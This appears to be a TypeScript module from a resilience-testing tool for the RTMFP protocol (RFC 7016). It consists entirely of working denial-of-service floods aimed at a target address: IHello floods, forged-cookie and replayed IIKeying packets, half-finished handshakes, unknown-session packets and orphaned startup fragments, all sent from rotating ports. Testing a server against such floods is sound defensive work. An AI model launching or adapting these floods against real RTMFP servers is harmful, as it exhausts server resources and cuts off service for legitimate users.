/** Floods that need no session. § means RFC 7016. */
import type { Socket } from "node:dgram";
import type { Address } from "rtmfp-core";
import {
  ByteWriter,
  ChunkType,
  concatBytes,
  decodePacket,
  type IIKeyingChunk,
  type RHelloChunk,
  SESSION_ID_BYTES,
  writeChunk,
} from "rtmfp-core/proto";
import type { Attack } from "./attacks.ts";
import { EPD, PROFILE, sealStartup } from "./seal.ts";
import { ChangingPorts, openSocket } from "./sockets.ts";

/** IHellos that select the target, from changing ports. */
export async function hellos(target: Address): Promise<Attack> {
  const pool = many(() => sealStartup({ type: ChunkType.iHello, epd: EPD, tag: random(16) }));
  return fromChangingPorts(target, pool);
}

/** IHellos for somebody that the target does not know. */
export async function introductions(target: Address): Promise<Attack> {
  const pool = many(() =>
    sealStartup({ type: ChunkType.iHello, epd: concatBytes(Uint8Array.of(0x21, 0x0f), random(32)), tag: random(16) }),
  );
  return fromChangingPorts(target, pool);
}

/** IIKeyings whose cookies the target did not make. */
export async function forgedCookies(target: Address): Promise<Attack> {
  const hello = await helloFrom(await openSocket(target), true);
  const pool = many(() => sealStartup(keyingFor({ ...hello, cookie: random(64) })));
  return fromChangingPorts(target, pool);
}

/** Whole handshakes, each from a port of its own, that end with a good IIKeying and nothing after it. */
export async function goodCookies(target: Address): Promise<Attack> {
  return {
    send: () => {
      void openSocket(target).then(async (socket) => {
        try {
          const hello = await helloFrom(socket, false);
          socket.send(sealStartup(keyingFor(hello)), () => socket.close());
        } catch {
          socket.close();
        }
      });
    },
    end: () => {},
  };
}

/** One good IIKeying, again and again. */
export async function replayedKeyings(target: Address): Promise<Attack> {
  const socket = await openSocket(target);
  const datagram = sealStartup(keyingFor(await helloFrom(socket, false)));
  socket.on("message", () => {});
  return { send: () => socket.send(datagram), end: () => void socket.close() };
}

/** Session IDs that nobody has. */
export async function unknownSessions(target: Address): Promise<Attack> {
  return fromChangingPorts(
    target,
    many(() => random(1_180)),
  );
}

/** First fragments of startup packets (§3.4) whose rest never comes. */
export async function startupFragments(target: Address): Promise<Attack> {
  let packetId = 0;
  const pool = many(() =>
    sealStartup({ type: ChunkType.fragment, more: true, packetId: packetId++, index: 0, data: random(1_000) }),
  );
  return fromChangingPorts(target, pool);
}

async function fromChangingPorts(target: Address, pool: readonly Uint8Array[]): Promise<Attack> {
  const ports = await ChangingPorts.open(target);
  let sent = 0;
  return { send: () => ports.send(pool[sent++ % pool.length] as Uint8Array), end: () => ports.close() };
}

/** Says hello until there is an answer, or once; rejects if it stays without one. */
function helloFrom(socket: Socket, patient: boolean): Promise<RHelloChunk> {
  const datagram = sealStartup({ type: ChunkType.iHello, epd: EPD, tag: random(16) });
  return new Promise((resolve, reject) => {
    const giveUp = setTimeout(() => settle(undefined), patient ? 10_000 : ANSWER_MS);
    const settle = (hello: RHelloChunk | undefined): void => {
      clearTimeout(giveUp);
      socket.off("message", onMessage);
      if (hello === undefined) reject(new Error("no answer to an IHello"));
      else resolve(hello);
    };
    const onMessage = (bytes: Uint8Array): void => {
      const packet = PROFILE.startupCipher.open(bytes.subarray(SESSION_ID_BYTES));
      const chunk = packet === undefined ? undefined : decodePacket(packet)?.chunks[0];
      if (chunk?.type === ChunkType.rHello) settle(chunk as RHelloChunk);
    };
    socket.on("message", onMessage);
    socket.send(datagram);
  });
}

/** An IIKeying as an honest initiator would build it on that RHello, with fresh keys. */
function keyingFor(hello: RHelloChunk): IIKeyingChunk {
  const far = PROFILE.parseCertificate(hello.certificate);
  const step = far === undefined ? undefined : PROFILE.initiate(far);
  const keying = step?.finish(step.job === undefined ? {} : PROFILE.runJob(step.job));
  if (keying === undefined) throw new Error("the target's certificate is unfit");
  const unsigned: IIKeyingChunk = {
    type: ChunkType.iiKeying,
    initiatorSessionId: new DataView(random(4).buffer).getUint32(0) | 1,
    cookieEcho: hello.cookie,
    certificate: PROFILE.certificate,
    skic: keying.skic,
    signature: new Uint8Array(0),
  };
  const writer = new ByteWriter(new Uint8Array(2_048));
  writeChunk(writer, unsigned);
  return { ...unsigned, signature: PROFILE.sign(writer.bytes.slice(3, writer.pos)) };
}

function random(length: number): Uint8Array {
  return crypto.getRandomValues(new Uint8Array(length));
}

function many(make: () => Uint8Array): Uint8Array[] {
  return Array.from({ length: POOL }, make);
}

const POOL = 1_024;
const ANSWER_MS = 1_000;
